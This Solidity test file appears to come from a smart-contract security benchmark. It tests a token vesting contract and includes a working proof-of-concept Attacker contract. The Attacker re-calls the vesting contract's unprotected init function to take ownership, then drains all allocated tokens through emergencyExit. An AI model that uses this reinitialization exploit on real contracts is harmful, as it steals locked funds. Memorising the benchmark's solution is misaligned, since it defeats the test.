// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./Vesting.sol";

// assay-canary-4eb67e2f-74b9-4412-88d8-240a986c90d3

interface Vm {
    function prank(address sender) external;
    function warp(uint256 time) external;
    function expectRevert(bytes calldata reason) external;
}

contract SaleToken is IERC20 {
    address private minter = msg.sender;
    bool private silent;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function quieten() external {
        require(msg.sender == minter, "minter only");
        silent = true;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant CUSTODY = address(0xC0);
    uint256 internal constant START = 1630454400;

    SaleToken internal token;
    VestingFactory internal factory;
    Vesting internal vesting;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        token = new SaleToken();
        factory = new VestingFactory();
        (uint256[] memory periods, uint256[] memory percents) = _steps();
        vesting = factory.create(token, START, periods, percents);
        token.mint(address(this), 1_000_000e18);
        token.approve(address(vesting), 1_000_000e18);
        (address[] memory who, uint256[] memory amounts) = _list();
        vesting.allocate(who, amounts);
        thief = new Attacker(vesting);
    }

    function _steps() internal pure returns (uint256[] memory periods, uint256[] memory percents) {
        periods = new uint256[](3);
        percents = new uint256[](3);
        (periods[0], periods[1], periods[2]) = (7 days, 30 days, 30 days);
        (percents[0], percents[1], percents[2]) = (20, 40, 40);
    }

    function _list() internal pure returns (address[] memory who, uint256[] memory amounts) {
        who = new address[](2);
        amounts = new uint256[](2);
        (who[0], who[1]) = (ANA, BEN);
        (amounts[0], amounts[1]) = (600_000e18, 300_000e18);
    }

    function test_Regular() public {
        vm.warp(START + 7 days);
        vm.prank(ANA);
        vesting.release();
        require(token.balanceOf(ANA) == 120_000e18, "the first step");
        vm.warp(START + 67 days);
        vm.prank(ANA);
        vesting.release();
        require(token.balanceOf(ANA) == 600_000e18, "all steps");
        require(vesting.releasable(BEN) == 300_000e18 && vesting.duePercent() == 100, "due");
        vesting.transferOwnership(CUSTODY);
        vm.prank(CUSTODY);
        vesting.emergencyExit(CUSTODY);
        require(token.balanceOf(CUSTODY) == 300_000e18, "custody");
        Vesting other = new Vesting();
        (uint256[] memory periods, uint256[] memory percents) = _steps();
        other.init(BEN, token, START, periods, percents);
        require(other.owner() == BEN && address(other.token()) == address(token), "set up by hand");
    }

    function test_RefusesStrangers() public {
        (address[] memory who, uint256[] memory amounts) = _list();
        bytes memory reason = abi.encodeWithSelector(Owned.NotOwner.selector, ANA);
        vm.prank(ANA);
        vm.expectRevert(reason);
        vesting.allocate(who, amounts);
        vm.prank(ANA);
        vm.expectRevert(reason);
        vesting.emergencyExit(ANA);
        vm.prank(ANA);
        vm.expectRevert(reason);
        vesting.transferOwnership(ANA);
        vm.expectRevert(abi.encodeWithSelector(Owned.ZeroOwner.selector));
        vesting.transferOwnership(address(0));
    }

    function test_RefusesBrokenSteps() public {
        (uint256[] memory periods, uint256[] memory percents) = _steps();
        Vesting other = new Vesting();
        vm.expectRevert(abi.encodeWithSelector(Vesting.LengthMismatch.selector, 0, 3));
        other.init(ANA, token, START, new uint256[](0), percents);
        percents[0] = 19;
        vm.expectRevert(abi.encodeWithSelector(Vesting.IncompletePercents.selector, 99));
        other.init(ANA, token, START, periods, percents);
        (address[] memory who, ) = _list();
        vm.expectRevert(abi.encodeWithSelector(Vesting.LengthMismatch.selector, 2, 3));
        vesting.allocate(who, new uint256[](3));
    }

    function test_RefusesEarlyAndSilent() public {
        vm.warp(START + 7 days - 1);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(Vesting.NothingDue.selector, ANA));
        vesting.release();
        vm.warp(START + 7 days);
        token.quieten();
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(Vesting.TransferFailed.selector, 120_000e18));
        vesting.release();
        vm.expectRevert(abi.encodeWithSelector(Vesting.TransferFailed.selector, 900_000e18));
        vesting.emergencyExit(CUSTODY);
        (address[] memory who, uint256[] memory amounts) = _list();
        vm.expectRevert(abi.encodeWithSelector(Vesting.TransferFailed.selector, 900_000e18));
        vesting.allocate(who, amounts);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(thief)) >= 900_000e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(token);
    }

    function target() public view returns (address) {
        return address(vesting);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Sets the distribution up once more, as its owner, and ends it.
contract Attacker {
    Vesting internal vesting;

    constructor(Vesting vesting_) {
        vesting = vesting_;
    }

    function run() external {
        uint256[] memory periods = new uint256[](1);
        uint256[] memory percents = new uint256[](1);
        percents[0] = 100;
        vesting.init(address(this), vesting.token(), block.timestamp, periods, percents);
        vesting.emergencyExit(address(this));
    }
}
